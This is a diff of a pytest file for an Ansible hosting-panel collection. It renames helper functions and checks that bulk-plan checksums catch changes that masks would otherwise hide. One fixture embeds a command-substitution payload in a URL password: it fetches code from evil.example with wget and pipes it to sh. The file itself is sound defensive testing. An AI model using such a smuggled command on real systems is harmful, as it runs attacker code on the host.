@@ -15,7 +15,7 @@ import pytest
 
 from ansible_collections.hosting.panel.plugins.module_utils._bulk.actions import Action, Deletion
 from ansible_collections.hosting.panel.plugins.module_utils._bulk.bulk_plan import make_bulk_plan
-from ansible_collections.hosting.panel.plugins.module_utils._bulk.bulk_task import counted
+from ansible_collections.hosting.panel.plugins.module_utils._bulk.bulk_task import count_resources
 from ansible_collections.hosting.panel.plugins.module_utils._bulk.encrypted_values import (
     EncryptedValues,
 )
@@ -39,7 +39,7 @@ from tests.support.transcript import SimulatedTime
 SECRET = "s3cret-of-a-customer"
 
 
-def action(
+def make_action(
     kind: str,
     key: str,
     effect: str,
@@ -56,64 +56,73 @@ def action(
     return Action(kind, key, change, displayed, identifier=identifier)
 
 
-def deletion(number: int, ids: list[int]) -> Action:
+def make_deletion(number: int, ids: list[int]) -> Action:
     """Return the deletion of a domain and of two mailboxes."""
     cascade = {"also_deleted": {"emails": ["a@x", "b@x"]}, "also_deleted_ids": {"emails": ids}}
-    return action(
+    return make_action(
         "domains", "old.example", DELETE, {"domain": "old.example"}, {}, number, **cascade
     )
 
 
-CREATED = action("clients", "acme", CREATE, {}, {"username": "acme", "notes": "x"})
-UPDATED = action("emails", "info@acme.example", UPDATE, {"max_size": 1}, {"max_size": 2}, 7)
-DELETED = deletion(5, [2, 1])
+CREATED = make_action("clients", "acme", CREATE, {}, {"username": "acme", "notes": "x"})
+UPDATED = make_action("emails", "info@acme.example", UPDATE, {"max_size": 1}, {"max_size": 2}, 7)
+DELETED = make_deletion(5, [2, 1])
 
 
 # The plan and its checksum
 
 
-def checksum(*actions: Action, unchanged: int = 0) -> str:
+def compute_checksum(*actions: Action, unchanged: int = 0) -> str:
     """Return the checksum of the plan that has some actions."""
     return make_bulk_plan(actions, unchanged).checksum
 
 
 def test_a_checksum_does_not_depend_on_what_is_right_already_nor_on_the_order_of_members() -> None:
-    reordered = action("clients", "acme", CREATE, {}, {"notes": "x", "username": "acme"})
-    assert checksum(CREATED, unchanged=3) == checksum(reordered)
+    reordered = make_action("clients", "acme", CREATE, {}, {"notes": "x", "username": "acme"})
+    assert compute_checksum(CREATED, unchanged=3) == compute_checksum(reordered)
 
 
-@pytest.mark.parametrize("other_deletion", [deletion(6, [2, 1]), deletion(5, [2, 3])])
+@pytest.mark.parametrize("other_deletion", [make_deletion(6, [2, 1]), make_deletion(5, [2, 3])])
 def test_what_goes_is_told_by_its_ids_so_the_same_names_do_not_make_the_same_checksum(
     other_deletion: Action,
 ) -> None:
-    assert checksum(deletion(5, [2, 1])) == checksum(DELETED) != checksum(other_deletion)
+    assert (
+        compute_checksum(make_deletion(5, [2, 1]))
+        == compute_checksum(DELETED)
+        != compute_checksum(other_deletion)
+    )
 
 
 def test_what_changes_is_told_by_its_id_too() -> None:
-    assert checksum(replace(UPDATED, identifier=8)) != checksum(UPDATED)
+    assert compute_checksum(replace(UPDATED, identifier=8)) != compute_checksum(UPDATED)
 
 
 @pytest.mark.parametrize(
     "other_action",
     [
         pytest.param(
-            action("clients", "acme", CREATE, {}, {"username": "acme", "notes": "y"}), id="value"
+            make_action("clients", "acme", CREATE, {}, {"username": "acme", "notes": "y"}),
+            id="value",
         ),
         pytest.param(
-            action("clients", "acme2", CREATE, {}, {"username": "acme", "notes": "x"}), id="key"
+            make_action("clients", "acme2", CREATE, {}, {"username": "acme", "notes": "x"}),
+            id="key",
         ),
         pytest.param(
-            action("clients", "acme", UPDATE, {}, {"username": "acme", "notes": "x"}), id="effect"
+            make_action("clients", "acme", UPDATE, {}, {"username": "acme", "notes": "x"}),
+            id="effect",
         ),
         pytest.param(
-            action("admins", "acme", CREATE, {}, {"username": "acme", "notes": "x"}), id="kind"
+            make_action("admins", "acme", CREATE, {}, {"username": "acme", "notes": "x"}), id="kind"
         ),
         pytest.param(
-            action("clients", "acme", CREATE, {"notes": ""}, {"username": "acme", "notes": "x"}),
+            make_action(
+                "clients", "acme", CREATE, {"notes": ""}, {"username": "acme", "notes": "x"}
+            ),
             id="value before",
         ),
         pytest.param(
-            action(
+            make_action(
                 "clients",
                 "acme",
                 CREATE,
@@ -126,13 +135,13 @@ def test_what_changes_is_told_by_its_id_too() -> None:
     ],
 )
 def test_a_checksum_changes_with_everything_that_an_action_does(other_action: Any) -> None:
-    assert checksum(other_action) != checksum(CREATED)
+    assert compute_checksum(other_action) != compute_checksum(CREATED)
 
 
 # The checksum of a run
 
 
-def objects() -> dict[str, list[dict[str, Any]]]:
+def make_objects() -> dict[str, list[dict[str, Any]]]:
     """Return the answers of a panel with two clients."""
     return {
         "/clients": [
@@ -157,8 +166,8 @@ def run(
 
 @pytest.mark.parametrize("check_mode", [True, False])
 def test_another_plan_than_the_approved_one_writes_nothing_and_is_shown(check_mode: bool) -> None:
-    approved = run(MemoryPanel(objects()), check_mode=True)["plan"]["checksum"]
-    moved = objects()
+    approved = run(MemoryPanel(make_objects()), check_mode=True)["plan"]["checksum"]
+    moved = make_objects()
     moved["/clients"][1]["notes"] = "somebody else"
     panel = MemoryPanel(moved)
 
@@ -183,8 +192,8 @@ def test_another_plan_than_the_approved_one_writes_nothing_and_is_shown(check_mo
 
 
 def test_an_approved_plan_that_was_carried_out_has_nothing_left_to_do() -> None:
-    approved = run(MemoryPanel(objects()), check_mode=True)["plan"]["checksum"]
-    panel = MemoryPanel(objects())
+    approved = run(MemoryPanel(make_objects()), check_mode=True)["plan"]["checksum"]
+    panel = MemoryPanel(make_objects())
     run(panel, expected_checksum=approved)
     panel.forget()
 
@@ -212,7 +221,7 @@ def test_an_object_that_a_new_one_refers_to_is_told_by_its_id_too() -> None:
 
 
 def test_an_empty_checksum_approves_nothing() -> None:
-    panel = MemoryPanel(objects())
+    panel = MemoryPanel(make_objects())
     result = run(panel, expected_checksum="")
 
     assert result["msg"] == (
@@ -225,7 +234,7 @@ def test_an_empty_checksum_approves_nothing() -> None:
 def test_a_guard_that_a_template_left_without_a_value_is_refused_and_not_left_out(
     option: str,
 ) -> None:
-    panel = MemoryPanel(objects())
+    panel = MemoryPanel(make_objects())
     result = run(panel, **{option: None})
 
     assert result["msg"].startswith(f"{option}: is null, which would ")
@@ -249,7 +258,7 @@ def test_a_plan_has_no_secret_and_its_checksum_does_not_tell_one() -> None:
         ]
     }
     first, second = (
-        run(MemoryPanel(objects()), check_mode=True, resources=resources)
+        run(MemoryPanel(make_objects()), check_mode=True, resources=resources)
         for resources in (requested, other_secrets)
     )
 
@@ -267,22 +276,22 @@ BEGIN_KEY = "-----BEGIN PRIVATE KEY-----"
 BACKUP = {"client": "acme", "description": "nightly", "type": "exec"}
 
 
-def backup(command: str) -> Mapping[str, Any]:
+def make_backup(command: str) -> Mapping[str, Any]:
     """Return the items of a scheduled task with a command."""
     return {"scheduled_tasks": [{**BACKUP, "command": command}]}
 
 
-def site(**domain: Any) -> Mapping[str, Any]:
+def make_site(**domain: Any) -> Mapping[str, Any]:
     """Return the items of a domain with some options."""
     return {"domains": [{"domain": "acme.example", **domain}]}
 
 
-def client(**options: Any) -> Mapping[str, Any]:
+def make_client(**options: Any) -> Mapping[str, Any]:
     """Return the items of a client with some options."""
     return {"clients": [{"username": "acme", **options}]}
 
 
-def sites() -> dict[str, list[dict[str, Any]]]:
+def make_sites() -> dict[str, list[dict[str, Any]]]:
     """Return the answers of a panel with a client and a domain."""
     return {
         "/clients": [{"id": 1, "username": "acme", "notes": "", "colours": {}}],
@@ -295,36 +304,38 @@ def sites() -> dict[str, list[dict[str, Any]]]:
     ("first", "second"),
     [
         pytest.param(
-            backup("curl https://u:passaaaa1@x.example/cron"),
-            backup("curl https://u:$(wget${IFS}-qO-${IFS}evil.example|sh)@x.example/cron"),
+            make_backup("curl https://u:passaaaa1@x.example/cron"),
+            make_backup("curl https://u:$(wget${IFS}-qO-${IFS}evil.example|sh)@x.example/cron"),
             id="code in place of a password in an address",
         ),
         pytest.param(
-            backup(f"x {BEGIN_KEY}\nMIIEvQIBADANBgkqhkiG9w0B\n"),
-            backup(f"x {BEGIN_KEY}\nMIIEvQIBADANBgkqhkiG9w0C\n"),
+            make_backup(f"x {BEGIN_KEY}\nMIIEvQIBADANBgkqhkiG9w0B\n"),
+            make_backup(f"x {BEGIN_KEY}\nMIIEvQIBADANBgkqhkiG9w0C\n"),
             id="a key without an end in a command",
         ),
         pytest.param(
-            site(apache={"http_directives": f"# {BEGIN_KEY}\nServerSignature Off"}),
-            site(apache={"http_directives": f"# {BEGIN_KEY}\nInclude /home/acme/x"}),
+            make_site(apache={"http_directives": f"# {BEGIN_KEY}\nServerSignature Off"}),
+            make_site(apache={"http_directives": f"# {BEGIN_KEY}\nInclude /home/acme/x"}),
             id="directives behind a key without an end",
         ),
         pytest.param(
-            site(target={"target": "https://u:one@x.example"}),
-            site(target={"target": "https://u:two@x.example"}),
+            make_site(target={"target": "https://u:one@x.example"}),
+            make_site(target={"target": "https://u:two@x.example"}),
             id="the login of a target",
         ),
         pytest.param(
-            client(notes="$6$salt$abcdefghij"), client(notes="$6$salt$abcdefghik"), id="a hash"
+            make_client(notes="$6$salt$abcdefghij"),
+            make_client(notes="$6$salt$abcdefghik"),
+            id="a hash",
         ),
         pytest.param(
-            client(extra={"colours": {"of": ["https://u:one@x.example"]}}),
-            client(extra={"colours": {"of": ["https://u:two@x.example"]}}),
+            make_client(extra={"colours": {"of": ["https://u:one@x.example"]}}),
+            make_client(extra={"colours": {"of": ["https://u:two@x.example"]}}),
             id="a text within a field of extra",
         ),
         pytest.param(
-            client(password=SECRET, update_password="always"),
-            client(regenerate_password=True),
+            make_client(password=SECRET, update_password="always"),
+            make_client(regenerate_password=True),
             id="a password that is set or generated",
         ),
     ],
@@ -332,18 +343,23 @@ def sites() -> dict[str, list[dict[str, Any]]]:
 def test_a_plan_that_writes_something_else_is_not_approved_though_masks_hide_the_difference(
     first: Mapping[str, Any], second: Mapping[str, Any]
 ) -> None:
-    approved = run(MemoryPanel(sites()), True, first)["plan"]["checksum"]
-    panel = MemoryPanel(sites())
+    approved = run(MemoryPanel(make_sites()), True, first)["plan"]["checksum"]
+    panel = MemoryPanel(make_sites())
 
     result = run(panel, resources=second, expected_checksum=approved)
 
     assert result["error"]["type"] == "PlanChanged"
     assert panel.writes == []
-    assert run(MemoryPanel(sites()), resources=first, expected_checksum=approved)["changed"] is True
+    assert (
+        run(MemoryPanel(make_sites()), resources=first, expected_checksum=approved)["changed"]
+        is True
+    )
 
 
 def test_a_password_that_the_panel_generates_is_shown_as_such() -> None:
-    (action,) = run(MemoryPanel(sites()), True, client(regenerate_password=True))["plan"]["actions"]
+    (action,) = run(MemoryPanel(make_sites()), True, make_client(regenerate_password=True))["plan"][
+        "actions"
+    ]
     assert action["after"] == {"password": "(generated)"}
 
 
@@ -356,7 +372,7 @@ def test_what_a_file_has_encrypted_cannot_be_guessed_from_the_checksum(
     encrypted.places["clients", "acme"] = {(option,)}
     fields = {"username": "acme", "notes": "y"}
 
-    other_action = action("clients", "acme", CREATE, {}, fields)
+    other_action = make_action("clients", "acme", CREATE, {}, fields)
 
     with mock.patch("hashlib.pbkdf2_hmac", wraps=hashlib.pbkdf2_hmac) as digest:
         first = make_bulk_plan([CREATED], 0, encrypted)
@@ -365,7 +381,7 @@ def test_what_a_file_has_encrypted_cannot_be_guessed_from_the_checksum(
     assert digest.call_count == 2 * slow
     assert first.checksum != second.checksum
 
-    is_fast = first.checksum == checksum(CREATED)
+    is_fast = first.checksum == compute_checksum(CREATED)
     assert is_fast is (slow == 0)
 
 
@@ -384,7 +400,7 @@ def test_only_texts_that_masks_hide_cost_the_time_in_which_nobody_guesses_them(
         CREATED, change=ObjectPlan(KINDS["clients"], DesiredObject(), "acme", CREATE, body=body)
     )
     with mock.patch("hashlib.pbkdf2_hmac", wraps=hashlib.pbkdf2_hmac) as digest:
-        assert (checksum(planned) == checksum(CREATED)) is (slow == 0)
+        assert (compute_checksum(planned) == compute_checksum(CREATED)) is (slow == 0)
 
     rounds = [call.args[3] for call in digest.call_args_list]
 
@@ -397,11 +413,11 @@ def test_only_texts_that_masks_hide_cost_the_time_in_which_nobody_guesses_them(
 
 def test_the_diff_of_a_run_is_its_plan_in_lines_and_empty_where_nothing_is_to_do() -> None:
     lines = '0 to create, 1 to update, 0 to delete, 1 unchanged\nacme:\n  update  client acme  notes "" -> x\n'
-    assert run(MemoryPanel(objects()))["diff"] == {"prepared": lines}
-    assert run(MemoryPanel(objects()), check_mode=True)["diff"] == {"prepared": lines}
-    assert run(MemoryPanel(objects()), resources={"clients": [{"username": "acme"}]})["diff"] == {
-        "prepared": ""
-    }
+    assert run(MemoryPanel(make_objects()))["diff"] == {"prepared": lines}
+    assert run(MemoryPanel(make_objects()), check_mode=True)["diff"] == {"prepared": lines}
+    assert run(MemoryPanel(make_objects()), resources={"clients": [{"username": "acme"}]})[
+        "diff"
+    ] == {"prepared": ""}
 
 
 # What is shown of the task
@@ -424,7 +440,7 @@ def test_the_diff_of_a_run_is_its_plan_in_lines_and_empty_where_nothing_is_to_do
 def test_whatever_stands_in_the_place_of_resources_is_not_shown(
     resources: Any, expected: Any
 ) -> None:
-    counts = counted(resources)
+    counts = count_resources(resources)
     assert SECRET not in str(counts)
 
     if isinstance(expected, dict):
@@ -440,7 +456,7 @@ def test_progress_is_told_at_most_once_in_five_seconds() -> None:
     time = SimulatedTime()
     lines = []
     work = (time.sleep(0.5) for _change in range(40))
-    with mock.patch("time.monotonic", time.clock):
+    with mock.patch("time.monotonic", time.get_time):
         assert len(list(report_progress(work, "changes written", 40, lines.append))) == 40
 
     assert lines == [f"{n} of 40 changes written" for n in (10, 20, 30, 40)]
